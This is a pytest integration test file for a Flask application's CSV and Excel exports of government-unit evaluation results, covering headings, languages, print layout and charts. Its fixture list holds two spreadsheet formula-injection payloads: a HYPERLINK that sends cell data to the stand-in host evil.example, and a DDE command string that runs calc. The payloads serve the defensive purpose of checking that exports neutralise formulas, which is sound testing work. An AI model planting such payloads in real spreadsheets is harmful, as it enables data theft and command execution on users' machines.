"""The files of a published result: tables for people, bytes for programs, a workbook to print."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from flask.testing import FlaskClient
from openpyxl import Workbook
from tests.integration.web.conftest import make_published

from pingyi.db import transaction
from pingyi.services.results.load import load_result
from pingyi.services.results.result import results_csv

NAMES = ["市第一局", "市第二局", "市第三局"]
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0", "市第三局"]
CSV = "/periods/p/results.csv"
XLSX = "/periods/p/results.xlsx"


def opened_in_excel(content: bytes) -> list[dict[str, str]]:
    """The rows as a Chinese Excel shows them: in UTF-8 where the mark says so, else in code page 936."""
    text = content.decode("utf-8-sig" if content.startswith(b"\xef\xbb\xbf") else "cp936")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def workbook(client: FlaskClient) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(client.get(XLSX).data))


def test_the_table_for_people_has_chinese_headings_with_rank_and_total_first(client: FlaskClient) -> None:
    make_published(NAMES)
    content = client.get(CSV).data
    assert content.count(b"\r\n") == content.count(b"\n") == len(NAMES) + 1
    rows = opened_in_excel(content)
    assert list(rows[0])[:5] == ["名次", "总分", "单位", "单位代码", "类别"]
    assert not [title for title in rows[0] if title.isascii()], "no key among the headings"
    first = rows[0]
    assert [first[title] for title in list(first)[:5]] == ["1", "80.00", "市第一局", "u1", "政府部门"]
    assert (first["等次"], first["状态"], first["加减分"]) == ("良好", "已排名", "-1.00")
    assert first["加减分事由"] == "倒扣−1：违规通报（纪〔2017〕3号）"
    assert (first["上次评议"], first["上年名次"], first["上年总分"]) == ("2016", "2", "")
    assert (first["依法行政（50 分）"], first["依法行政·状态"]) == ("40.00", "已计分")
    assert rows[1]["政务公开·状态"] == "渠道单位未报送"


def test_the_english_page_gives_english_headings_and_words(client: FlaskClient) -> None:
    make_published(NAMES)
    rows = opened_in_excel(client.get(f"{CSV}?lang=en").data)
    assert list(rows[0])[:2] == ["Rank", "Total"]
    assert (rows[0]["Grade"], rows[0]["Status"]) == ("good", "Ranked")
    assert rows[0]["Reasons of adjustments"] == "Deduction −1: 违规通报 (纪〔2017〕3号)"


def test_the_table_for_programs_is_that_of_the_bundle_and_both_are_named(client: FlaskClient) -> None:
    make_published(NAMES)
    with transaction() as connection:
        stored = results_csv(load_result(connection, "p"))
    answer = client.get(f"{CSV}?form=machine")
    assert answer.data == stored == client.get("/api/v1/periods/p/results/csv").data
    assert answer.data.startswith(b"category,unit,name,")
    assert answer.headers["Content-Disposition"].endswith('"p-demonstration-machine-results.csv"')
    page = client.get("/").text
    assert (
        ">CSV</a>" in page
        and ">CSV（程序用）</a>" in page
        and "results.csv?form=machine&amp;revision=1" in page
    )
    assert ">CSV for programs</a>" in client.get("/?lang=en").text


def test_the_columns_of_programs_are_safe_in_a_spreadsheet_where_asked_for(client: FlaskClient) -> None:
    make_published(EVIL)
    plain = client.get("/api/v1/periods/p/results/csv").data
    assert [row["name"] for row in csv.DictReader(io.StringIO(plain.decode()))] == EVIL
    rows = opened_in_excel(client.get("/api/v1/periods/p/results/csv?bom=1").data)
    assert [row["name"] for row in rows] == [f"'{EVIL[0]}", f"'{EVIL[1]}", EVIL[2]]
    assert (rows[0]["adjustments"], rows[0]["total"]) == ("-1.00", "80.00")


def test_no_name_is_calculated_and_numbers_stay_numbers(client: FlaskClient) -> None:
    make_published(EVIL)
    rows = opened_in_excel(client.get(CSV).data)
    assert [row["单位"] for row in rows] == [f"'{EVIL[0]}", f"'{EVIL[1]}", EVIL[2]]
    assert rows[0]["加减分"] == "-1.00"
    book = workbook(client)
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value in EVIL[:2]]
    assert len(cells) >= 2 * 4, "on the sheets of the category, of every channel"
    assert {(cell.data_type, cell.quotePrefix) for cell in cells} == {("s", True)}


def test_the_workbook_has_sheets_of_channels_adjustments_and_last_year(client: FlaskClient) -> None:
    make_published(NAMES)
    book = workbook(client)
    assert book.sheetnames == [
        "政府部门",
        "图·政府部门",
        "加减分",
        "依法行政",
        "政务公开",
        "窗口",
        "说明 Notes",
    ]
    board = book["政府部门"]
    heads = [cell.value for cell in board[4]]
    assert heads[-2:] == ["上年名次 Last rank", "上年总分 Last total"]
    assert [cell.value for cell in board[5]][-2:] == [2, None]
    assert board.cell(5, heads.index("等次 Grade") + 1).value == "良好"
    assert [cell.value for cell in book["加减分"][5]] == [
        *("政府部门", 1, "u1", "市第一局", "倒扣", -1, "违规通报", "纪〔2017〕3号"),
    ]
    law = book["依法行政"]
    titles = [cell.value for cell in law[4]]
    assert titles[:7] == [
        *("类别 Category", "名次 Rank", "单位代码 Code", "单位 Unit"),
        *("得分 Points", "依据数 Pieces of evidence", "状态 Status"),
    ]
    assert len(titles) > 7, "the facts of the channel"
    assert [cell.value for cell in law[5]][:7] == ["政府部门", 1, "u1", "市第一局", 40, 1, "已计分"]
    assert all(isinstance(cell.value, int | float) for cell in law[5][7:])


def test_every_sheet_prints_across_with_heads_the_title_and_page_numbers(client: FlaskClient) -> None:
    make_published(NAMES)
    for sheet in workbook(client):
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        chart = sheet.title.startswith("图")
        assert sheet.page_setup.fitToHeight == (None if chart else 0), (
            "one page, which files leave out, or any"
        )
        assert "&P" in sheet.oddFooter.right.text
        assert "小方案" in sheet.oddHeader.left.text
        heads = sheet.title not in {"图·政府部门", "说明 Notes"}
        assert sheet.print_title_rows == ("$4:$4" if heads else None)
        assert "演示数据" in sheet.oddHeader.left.text


def test_the_chart_draws_the_parts_of_every_total(client: FlaskClient) -> None:
    make_published(NAMES)
    (chart,) = workbook(client)["图·政府部门"]._charts
    assert [series.val.numRef.f for series in chart.series] == ["政府部门!$F$5:$F$7", "政府部门!$G$5:$G$7"]
    assert {series.cat.strRef.f for series in chart.series} == {"政府部门!$C$5:$C$7"}
    assert chart.grouping == "stacked"


@pytest.mark.parametrize("path", [CSV, XLSX])
def test_files_for_people_follow_the_language_and_are_asked_for_again(client: FlaskClient, path: str) -> None:
    make_published(NAMES)
    answer = client.get(path)
    assert answer.headers["Cache-Control"] == "no-cache" and "Cookie" in answer.vary
